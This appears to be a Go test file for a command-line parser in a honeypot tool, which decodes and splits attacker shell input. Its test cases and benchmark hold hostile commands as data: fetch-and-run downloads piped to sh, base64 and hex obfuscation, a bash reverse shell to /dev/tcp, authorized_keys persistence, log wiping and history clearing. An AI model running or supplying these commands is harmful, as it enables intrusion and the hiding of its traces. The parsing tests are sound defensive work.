package cmdline_test

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"honeyguide/internal/cmdline"
)

// show writes the commands of a line in short: name(args) with the index of
// the command that feeds it.
func show(l *cmdline.Line) string {
	var out []string
	for _, c := range l.Commands {
		s := c.Name
		if len(c.Args) > 0 {
			s += "(" + strings.Join(c.Args, " ") + ")"
		}
		if len(c.Via) > 0 {
			s = strings.Join(c.Via, "+") + "+" + s
		}
		if c.From >= 0 {
			s += fmt.Sprintf("<%d", c.From)
		}
		for _, r := range c.Redirects {
			s += r.Op + r.Target
		}
		out = append(out, s)
	}
	return strings.Join(out, "; ")
}

func TestParse(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString([]byte("wget http://192.0.2.1/a\nsh a\n"))
	for line, want := range map[string]string{
		"uname -a":                                  "uname(-a)",
		"/bin/busybox wget http://192.0.2.1/x":      "busybox+wget(http://192.0.2.1/x)",
		"cd /tmp || cd /; wget http://h/x&&sh x":    "cd(/tmp); cd(/); wget(http://h/x); sh(x)",
		`sh -c "id; cat '/etc/passwd'"`:             "sh(-c id; cat '/etc/passwd'); id; cat(/etc/passwd)",
		`bash -lc 'echo $(whoami)'`:                 "bash(-lc echo $(whoami)); whoami; echo($())",
		"echo " + b64 + " | base64 -d | sh":         "echo(" + b64 + "); base64(-d)<0; sh<1; wget(http://192.0.2.1/a); sh(a)",
		"base64 -d <<< aWQ=|bash":                   "base64(-d)<<<aWQ=; bash<0; id",
		`echo -e "\x69\x64" | sh`:                   `echo(-e \x69\x64); sh<0; id`,
		`echo 6964 | xxd -r -p | sh`:                "echo(6964); xxd(-r -p)<0; sh<1; id",
		`w'g'et${IFS}http://h/x`:                    "wget(http://h/x)",
		`\wget$IFS$9http://h/x`:                     "wget(http://h/x)",
		"sudo -u root nohup ./x >/dev/null 2>&1 &":  "sudo+nohup+x>/dev/null>&1",
		"sudo su -":                                 "sudo+su(-)",
		"#!/bin/sh; id":                             "id",
		"sudo -i":                                   "sudo(-i)",
		"sudo reboot":                               "sudo+reboot",
		"timeout 5 env A=1 LC_ALL=C curl -s h | sh": "timeout+env+curl(-s h); sh<0",
		"if [ -w /tmp ]; then cd /tmp; fi":          "[(-w /tmp ]); cd(/tmp)",
		"a=`id`; b=$(w)":                            "id; ; w; ",
		"find . -name x | xargs -n 1 rm -f":         "find(. -name x); xargs+rm(-f)<0",
		"cat <<< 'x' >>.ssh/authorized_keys":        "cat<<<x>>.ssh/authorized_keys",
		"> /var/log/wtmp":                           ">/var/log/wtmp",
		"echo a#b # note ; id":                      "echo(a#b)",
		"eval 'wget h'":                             "eval(wget h); wget(h)",
		"curl h |& bash -s 4AX":                     "curl(h); bash(-s 4AX)<0",
		`echo "unclosed`:                            "echo(unclosed)",
		"su -c 'id' root":                           "su(-c id root); id",
		"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1":   "bash(-i)>&/dev/tcp/192.0.2.1/4444>&1",
		"$'\\x77get' h":                             "wget(h)",
		"diff <(id) x":                              "id; diff($() x)",
		"cat /proc/mounts; /bin/busybox TRQBQ":      "cat(/proc/mounts); busybox+TRQBQ",
		"":                                          "",
		";;;|||&&&(((":                              "",
	} {
		if got := show(cmdline.Parse(line)); got != want {
			t.Errorf("%q\n got %s\nwant %s", line, got, want)
		}
	}
}

func TestBounds(t *testing.T) {
	for name, line := range map[string]string{
		"commands": strings.Repeat("id;", 100_000), "words": "echo" + strings.Repeat(" a", 5000),
		"depth": strings.Repeat("$(", 5000) + "id", "backticks": strings.Repeat("`", 5001),
		"bytes": strings.Repeat("a", 1<<20), "eval": strings.Repeat("eval ", 3000) + "id",
	} {
		l := cmdline.Parse(line)
		if len(l.Commands) > cmdline.MaxCommands {
			t.Errorf("%s: %d commands", name, len(l.Commands))
		}
		if name != "backticks" && !l.Truncated {
			t.Errorf("%s: not marked as cut", name)
		}
	}
}

func FuzzParse(f *testing.F) {
	for _, s := range []string{
		"echo aWQ= | base64 -d | sh", `sh -c "$(curl h)"`, "a=`b $(c)` <(d) >e 2>&1 <<< f", `$'\x41\101\n`, "${IFS", "((", "'", "\\",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		l := cmdline.Parse(s)
		if len(l.Commands) > cmdline.MaxCommands {
			t.Fatal("too many commands")
		}
		for i, c := range l.Commands {
			if c.From >= i {
				t.Fatalf("command %d is fed by %d", i, c.From)
			}
			for range l.Feeds(i) { //nolint:revive // must end
			}
		}
	})
}

func BenchmarkParse(b *testing.B) {
	line := "cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.1/x.sh; curl -O http://192.0.2.1/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh; history -c"
	b.SetBytes(int64(len(line)))
	for b.Loop() {
		cmdline.Parse(line)
	}
}
